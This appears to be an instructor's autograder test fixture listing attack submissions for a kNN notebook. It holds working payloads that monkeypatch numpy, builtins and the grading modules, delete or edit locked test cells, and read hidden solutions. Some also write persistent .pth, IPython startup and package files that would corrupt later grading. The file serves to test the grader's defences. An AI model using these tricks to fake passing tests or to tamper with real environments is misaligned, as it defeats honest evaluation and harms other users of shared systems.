"""Attack submissions for assignment 1 (instructor material: never released).

Each attack starts from the reference answers of one notebook, leaves some answers as the release stub
or plants a bug in them (the *honest code behind* the attack), then adds attack code to an answer cell
or edits the notebook. ``loses`` lists the tests the honest code behind fails, which the attack tries to
pass: each must score zero. ``keeps`` lists tests the honest code passes, which must keep their points
(the defences must not punish honest work next to an attack). ``flagged``: the grader must add a
review note to a student cell. Fields are those of ``cs231n.grading.tools.attack_submissions.Attack``.
"""

NO_SQRT = {"find": "dists = np.sqrt(np.maximum(squared, 0.0))", "replace": "dists = np.maximum(squared, 0.0)"}
WITH_LOOP = {"find": "    test_sq = np.sum(X * X, axis=1, keepdims=True)",
             "replace": "    for _unused in range(1):\n        pass\n"
                        "    test_sq = np.sum(X * X, axis=1, keepdims=True)"}
NO_LOOPS_TESTS = ["knn_no_loops_visible", "knn_no_loops_hidden"]
EARLIER_TESTS = ["knn_two_loops_visible", "knn_two_loops_hidden", "knn_one_loop_visible", "knn_one_loop_hidden"]
PREDICT_TESTS = ["knn_predict_labels_visible", "knn_predict_labels_hidden"]

ALL_KNN_TESTS = [*EARLIER_TESTS, *NO_LOOPS_TESTS, *PREDICT_TESTS, "knn_l1_visible", "knn_l1_hidden",
                 "knn_cross_validation_visible", "knn_cross_validation_hidden", "knn_best_k_visible",
                 "knn_test_accuracy"]
#: Every attack's honest code leaves the cross-validation loop as the release stub: its two test cells
#: take most of the notebook's grading time, and no attack is about that loop (none lists its tests).
CV_STUB = {"knn_cross_validation": "stub"}
CV_TESTS = ["knn_cross_validation_visible", "knn_cross_validation_hidden"]
BEFORE_CV_TESTS = [t for t in ALL_KNN_TESTS if t not in (*CV_TESTS, "knn_best_k_visible", "knn_test_accuracy")]

#: Writes that would outlive the kernel if they worked, with payloads that would hand points to every
#: later submission (the untouched release of the tamper test's victim, graded after them).
PTH_PAYLOAD = r"""
import glob as _glob, os as _os, site as _site
_payload = "import cs231n.verdicts as _v; _v.judge = lambda *a, **k: None\n"
_dirs = set(_site.getsitepackages() + [_os.path.dirname(_os.path.dirname(np.__file__))])
for _d in _dirs:
    for _target in [_os.path.join(_d, "zz_cs231n_attack.pth"), *_glob.glob(_os.path.join(_d, "*.pth"))]:
        try:
            with open(_target, "a") as _f:
                _f.write(_payload)
            print("wrote", _target)
        except OSError as _e:
            print("blocked:", _target, _e.strerror)
"""

STARTUP_PAYLOAD = r"""
import os as _os, pathlib as _pathlib
_code = (
    "import numpy as _np\n"
    "def _install(*_args):\n"
    "    cls = get_ipython().user_ns.get('KNearestNeighbor')\n"
    "    if cls is not None:\n"
    "        def _dists(self, X):\n"
    "            return _np.sqrt(_np.maximum(((X[:, None, :] - self.X_train[None, :, :]) ** 2).sum(axis=2), 0))\n"
    "        cls.compute_distances_two_loops = cls.compute_distances_one_loop = _dists\n"
    "        cls.compute_distances_no_loops = _dists\n"
    "get_ipython().events.register('post_run_cell', _install)\n")
for _home in {_os.path.expanduser("~"), "/root", _os.environ.get("IPYTHONDIR", ""), "/tmp/home"}:
    if not _home:
        continue
    for _folder in (_pathlib.Path(_home) / ".ipython" / "profile_default" / "startup",
                    _pathlib.Path(_home) / "profile_default" / "startup"):
        try:
            _folder.mkdir(parents=True, exist_ok=True)
            (_folder / "00-cs231n-attack.py").write_text(_code)
            print("wrote", _folder)
        except OSError as _e:
            print("blocked:", _folder, _e.strerror)
"""

PACKAGE_PAYLOAD = r"""
import os as _os, cs231n as _pkg
_root = _os.path.dirname(_pkg.__file__)
for _rel, _text in (("verdicts.py", "def judge(*args, **kwargs):\n    return None\n"),
                    ("grading/judging.py", "def judge_cell(*args, **kwargs):\n    return None\n"),
                    ("grading/guard.py", "raise SystemExit('guard replaced by an attacker')\n"),
                    ("cs231n-attack-marker.py", "x = 1\n")):
    try:
        with open(_os.path.join(_root, _rel), "w") as _f:
            _f.write(_text)
        print("wrote", _rel)
    except OSError as _e:
        print("blocked:", _rel, _e.strerror)
"""

SCATTER_PAYLOAD = r"""
import os as _os
for _target in ("/tmp/cs231n-attack-marker", "/var/tmp/cs231n-attack-marker", "/dev/shm/cs231n-attack-marker",
                _os.path.expanduser("~/cs231n-attack-marker"), "/root/cs231n-attack-marker",
                "../cs231n-attack-marker", "../../cs231n-attack-marker", "../../../cs231n-attack-marker",
                "../../../gradebook.db", "/etc/cs231n-attack-marker"):
    try:
        with open(_target, "a") as _f:
            _f.write("attack")
        print("wrote", _target)
    except OSError as _e:
        print("blocked:", _target, _e.strerror)
"""

#: Files the on-disk attacks try to leave behind ("~": the grader's HOME).
MARKERS = ["/tmp/cs231n-attack-marker", "/var/tmp/cs231n-attack-marker", "/dev/shm/cs231n-attack-marker",
           "~/cs231n-attack-marker", "/root/cs231n-attack-marker", "/etc/cs231n-attack-marker",
           "~/.ipython/profile_default/startup/00-cs231n-attack.py",
           "/root/.ipython/profile_default/startup/00-cs231n-attack.py"]

ORACLE = """
import inspect as _inspect


def _oracle(self, X):
    shape = (X.shape[0], self.X_train.shape[0])
    for _info in _inspect.stack()[1:]:
        _frame = _info.frame
        for _scope in (_frame.f_locals, _frame.f_globals):
            for _key in ("expected", "_expected", "_want", "want", "tiny_dists", "numeric"):
                _v = _scope.get(_key)
                if isinstance(_v, np.ndarray) and _v.shape == shape:
                    return _v.copy()
            for _key, _v in list(_scope.items()):
                if isinstance(_v, np.ndarray) and _v.shape == shape and _v is not X and _v.dtype.kind == "f":
                    return _v.copy()
    raise NotImplementedError()


def compute_distances_two_loops(self, X):
    return _oracle(self, X)


compute_distances_one_loop = compute_distances_no_loops = compute_distances_two_loops
KNearestNeighbor.compute_distances_two_loops = compute_distances_two_loops
KNearestNeighbor.compute_distances_one_loop = compute_distances_one_loop
KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
"""

SELF_UNDOING = """
import cs231n.checks as _checks_mod
import cs231n.verdicts as _verdicts_mod

def _once(module, name, fake):
    real = vars(module)[name]
    def wrapper(*args, **kwargs):
        vars(module)[name] = real
        return fake(*args, **kwargs)
    vars(module)[name] = wrapper

_buggy_no_loops = compute_distances_no_loops
def compute_distances_no_loops(self, X):
    _once(np, "allclose", lambda *args, **kwargs: True)
    _once(np, "array_equal", lambda *args, **kwargs: True)
    _once(_verdicts_mod, "judge", lambda *args, **kwargs: None)
    _once(_verdicts_mod, "diagnose", lambda *args, **kwargs: None)
    return _buggy_no_loops(self, X)
KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
"""

LYING_ARRAY = """
class _Agreeable(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False

_buggy_no_loops = compute_distances_no_loops
def compute_distances_no_loops(self, X):
    return np.asarray(_buggy_no_loops(self, X)).view(_Agreeable)
KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
"""

EDIT_DATA = """
for _name in ("tiny_dists", "no_loop_dists"):
    try:
        globals()[_name][...] = globals()[_name] ** 2   # the expected values, squared like the buggy output
    except Exception:
        pass
"""

REFERENCE_HUNT = """
import gc as _gc

def _candidates():
    seen = list(globals().items())
    for obj in _gc.get_objects():
        if callable(obj) and hasattr(obj, "__name__"):
            seen.append((obj.__name__, obj))
    for name, obj in seen:
        low = str(name).lower()
        if callable(obj) and ("ref" in low or "expected" in low or "solution" in low) and "distances" not in low:
            yield obj

def compute_distances_no_loops(self, X):
    for fn in _candidates():
        for args in ((self, X), (X, self.X_train), (self.X_train, X)):
            try:
                out = fn(*args)
            except Exception:
                continue
            if isinstance(out, np.ndarray) and out.shape == (X.shape[0], self.X_train.shape[0]):
                return out
    raise NotImplementedError()
KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
"""

ATTACKS = [
    {
        "name": "patch_numpy",
        "description": "redefine np.allclose, np.isclose, np.array_equal, np.linalg.norm and np.testing",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_two_loops": """
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.linalg.norm = lambda *args, **kwargs: 0.0
np.testing.assert_allclose = lambda *args, **kwargs: None
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "patch_checks",
        "description": "replace the package's check helpers (cs231n.checks) with ones that always pass",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_two_loops": """
import cs231n.checks
cs231n.checks.diagnose = lambda *args, **kwargs: None
cs231n.checks.array = lambda name, call, expected, **kwargs: np.asarray(expected)
cs231n.checks.CheckFailed.__init__ = lambda self, *args: Exception.__init__(self)
"""},
        "loses": ["knn_no_loops_hidden", "knn_no_loops_visible"], "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "rebind_names",
        "description": "rebind np and checks in the notebook's namespace to fakes that always pass",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_two_loops": """
import types as _types
import numpy as _real_np
class _FakeNumpy(_types.ModuleType):
    def __getattr__(self, name):
        return getattr(_real_np, name)
    def allclose(self, *args, **kwargs):
        return True
np = _FakeNumpy("numpy")
class _FakeChecks:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
checks = _FakeChecks()
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": False,
    },
    {
        "name": "patch_builtins",
        "description": "redefine builtins (any, isinstance, abs, max, print) and rebind AssertionError",
        "notebook": "knn", "answers": {"knn_no_loops": WITH_LOOP},
        "append": {"knn_two_loops": """
import builtins
builtins.any = lambda iterable: False
builtins.abs = lambda x: 0
builtins.max = lambda *args, **kwargs: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
"""},
        "loses": ["knn_no_loops_hidden"], "keeps": ["knn_no_loops_visible", *EARLIER_TESTS], "flagged": True,
    },
    {
        "name": "shadow_builtins",
        "description": "shadow builtins in the notebook namespace (any = ..., isinstance = ..., AssertionError = ...)",
        "notebook": "knn", "answers": {"knn_no_loops": WITH_LOOP},
        "append": {"knn_two_loops": """
any = lambda iterable: False
isinstance = lambda obj, cls: True
AssertionError = Warning
print = lambda *args, **kwargs: None
"""},
        "loses": ["knn_no_loops_hidden"], "keeps": ["knn_no_loops_visible", *EARLIER_TESTS], "flagged": False,
    },
    {
        "name": "custom_exc",
        "description": "swallow every exception with IPython's set_custom_exc",
        "notebook": "knn", "answers": {"knn_no_loops": "stub"},
        "append": {"knn_two_loops": """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "input_transformer",
        "description": "an input transformer that rewrites every later cell mentioning no_loops to `pass`",
        "notebook": "knn", "answers": {"knn_no_loops": "stub"},
        "append": {"knn_two_loops": """
def _neutralise(lines):
    return ["pass\\n"] if any("no_loops" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_neutralise)
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "ast_transformer",
        "description": "an AST transformer that deletes every assert statement",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_two_loops": """
import ast as _ast
class _NoAsserts(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
"""},
        "loses": ["knn_no_loops_hidden"], "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "hooks_and_events",
        "description": "sys.excepthook, showtraceback replaced, pre/post_run_cell events that clear errors",
        "notebook": "knn", "answers": {"knn_no_loops": "stub"},
        "append": {"knn_two_loops": """
import sys
sys.excepthook = lambda *args: None
_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
def _clear(result=None):
    if result is not None:
        result.error_in_exec = None
_ip.events.register("post_run_cell", _clear)
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "del_trick",
        "description": "an object whose __del__ patches np.allclose while the hidden test runs",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_no_loops": """
class _Patcher:
    def __del__(self):
        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
_honest_no_loops = compute_distances_no_loops
def compute_distances_no_loops(self, X):
    _p = _Patcher()
    return _honest_no_loops(self, X)
KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "exit_in_answer",
        "description": "sys.exit() at the end of an answer cell, then os._exit() inside the graded function",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_one_loop": "import sys\nsys.exit(0)\n", "knn_no_loops": """
import os
_buggy = compute_distances_no_loops
def compute_distances_no_loops(self, X):
    if X.shape[0] > 2:  # the visible test has 2 rows; the hidden ones more
        os._exit(0)
    return _buggy(self, X)
KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "read_instructor_files",
        "description": "read the instructor's source notebook (relative and absolute paths) and run its solution",
        "notebook": "knn", "answers": {"knn_no_loops": "stub"},
        "append": {"knn_no_loops": """
import json as _json, os as _os, re as _re, glob as _glob
import cs231n as _pkg
_candidates = ["../../../source/assignment1/knn.ipynb", "../../../assignment1/knn.ipynb",
               _os.path.join(_os.path.dirname(_os.path.dirname(_pkg.__file__)), "assignment1", "knn.ipynb")]
_candidates += _glob.glob("/tmp/**/source/assignment1/knn.ipynb", recursive=True)
for _path in _candidates:
    try:
        _cells = _json.load(open(_path))["cells"]
    except OSError:
        continue
    for _cell in _cells:
        if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "knn_no_loops":
            exec("".join(_cell["source"]))
            KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
            break
    break
"""},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": False,
    },
    {
        "name": "edit_locked_test",
        "description": "replace the hidden test's source with `pass` (same metadata)",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "edits": [{"op": "replace_source", "cell": "knn_no_loops_hidden", "source": "pass\n"},
                  {"op": "replace_source", "cell": "knn_no_loops_visible", "source": "pass\n"}],
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS,
    },
    {
        "name": "delete_test",
        "description": "delete the hidden test cell",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "edits": [{"op": "delete", "cell": "knn_no_loops_hidden"}],
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS,
    },
    {
        "name": "duplicate_test",
        "description": "duplicate the hidden test cell after itself, the copy reduced to `pass`",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "edits": [{"op": "duplicate_after", "cell": "knn_no_loops_hidden", "source": "pass\n"}],
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS,
    },
    {
        "name": "move_test",
        "description": "move the hidden test cells of the distances to the top of the notebook",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "edits": [{"op": "move_to_top", "cell": "knn_no_loops_hidden"}],
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS,
    },
    {
        "name": "retag_test",
        "description": "turn the hidden test into an answer cell (solution metadata) holding `pass`",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "edits": [{"op": "set_meta", "cell": "knn_no_loops_hidden", "meta": {"solution": True, "grade": False,
                                                                              "locked": False},
                   "source": "pass\n"}],
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS,
    },
    {
        "name": "strip_test_metadata",
        "description": "remove nbgrader's metadata from the hidden test and replace it with `pass`",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "edits": [{"op": "strip_meta", "cell": "knn_no_loops_hidden", "source": "pass\n"}],
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS,
    },
    {
        "name": "rename_notebook",
        "description": "submit the notebook under another name (with a bug: the renamed copy is not graded)",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT}, "rename": "knn_final",
        "loses": [*NO_LOOPS_TESTS, *EARLIER_TESTS], "keeps": [],
    },
    {
        "name": "trace_jump",
        "description": "targets this grader: a trace function set from inside the graded function skips the "
                       "test's asserts (a known gap of in-process defences; must at least be flagged)",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_no_loops": """
import sys
_buggy_nl = compute_distances_no_loops
def _skip_asserts(frame, event, arg):
    if event == "line" and frame.f_code.co_filename.startswith("<test"):
        import linecache
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
        if "assert" in line:
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _skip_asserts
def compute_distances_no_loops(self, X):
    caller = sys._getframe(1)
    while caller is not None and not caller.f_code.co_filename.startswith("<test"):
        caller = caller.f_back
    if caller is not None:
        caller.f_trace = _skip_asserts
        sys.settrace(lambda *args: None)
    return _buggy_nl(self, X)
KNearestNeighbor.compute_distances_no_loops = compute_distances_no_loops
"""},
        "loses": ["knn_no_loops_hidden"], "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "disk_pth",
        "description": "writes .pth files into the virtual environment's site-packages (every later Python "
                       "process, the grader's included, would make every verdict 'right')",
        "notebook": "knn", "answers": CV_STUB, "append": {"knn_two_loops": PTH_PAYLOAD}, "disk": True,
        "loses": CV_TESTS, "keeps": BEFORE_CV_TESTS, "flagged": True,
    },
    {
        "name": "disk_ipython_startup",
        "description": "writes IPython startup files into HOME (every later student's kernel would get correct "
                       "distance functions installed)",
        "notebook": "knn", "answers": CV_STUB, "append": {"knn_two_loops": STARTUP_PAYLOAD}, "disk": True,
        "loses": CV_TESTS, "keeps": BEFORE_CV_TESTS, "flagged": True,
    },
    {
        "name": "disk_package",
        "description": "overwrites the kit's verdict and judging code and the grading kernel in the installed "
                       "package",
        "notebook": "knn", "answers": CV_STUB, "append": {"knn_two_loops": PACKAGE_PAYLOAD}, "disk": True,
        "loses": CV_TESTS, "keeps": BEFORE_CV_TESTS,
    },
    {
        "name": "disk_scatter",
        "description": "writes marker files into /tmp, /var/tmp, /dev/shm, HOME, /etc and the course folder",
        "notebook": "knn", "answers": CV_STUB, "append": {"knn_two_loops": SCATTER_PAYLOAD}, "disk": True,
        "loses": CV_TESTS, "keeps": BEFORE_CV_TESTS,
    },
    {
        "name": "oracle_stack",
        "description": "no implementation: the distance functions walk the call stack (inspect.stack, frame locals "
                       "and globals) and return any array of the right shape they find, e.g. a check's expected "
                       "value or a local of the test cell",
        "notebook": "knn", "answers": {"knn_two_loops": "stub", "knn_one_loop": "stub", "knn_no_loops": "stub"},
        "append": {"knn_no_loops": ORACLE},
        "loses": [*NO_LOOPS_TESTS, *EARLIER_TESTS], "keeps": PREDICT_TESTS, "flagged": True,
    },
    {
        "name": "self_undoing_patch",
        "description": "the graded function replaces np.allclose, np.array_equal and the kit's verdict functions "
                       "through vars(module)[...] with versions that answer 'equal' once and put the real ones back",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_no_loops": SELF_UNDOING},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "lying_ndarray",
        "description": "the graded function returns an ndarray subclass whose __array_ufunc__ and __eq__ answer "
                       "every comparison with True",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_no_loops": LYING_ARRAY},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
    {
        "name": "edit_instructor_data",
        "description": "an answer cell changes in place the arrays an earlier instructor cell bound (the tiny "
                       "problem's expected distances and inputs) so that a buggy function matches them",
        "notebook": "knn", "answers": {"knn_no_loops": NO_SQRT},
        "append": {"knn_no_loops": EDIT_DATA},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS,
    },
    {
        "name": "reference_in_reach",
        "description": "no implementation: the graded function searches the notebook's namespace and every live "
                       "object (gc) for a reference implementation or an expected value left by a test, and uses it",
        "notebook": "knn", "answers": {"knn_no_loops": "stub"},
        "append": {"knn_no_loops": REFERENCE_HUNT},
        "loses": NO_LOOPS_TESTS, "keeps": EARLIER_TESTS, "flagged": True,
    },
]

for _attack in ATTACKS:  # see CV_STUB
    _attack["answers"] = {**CV_STUB, **_attack["answers"]}
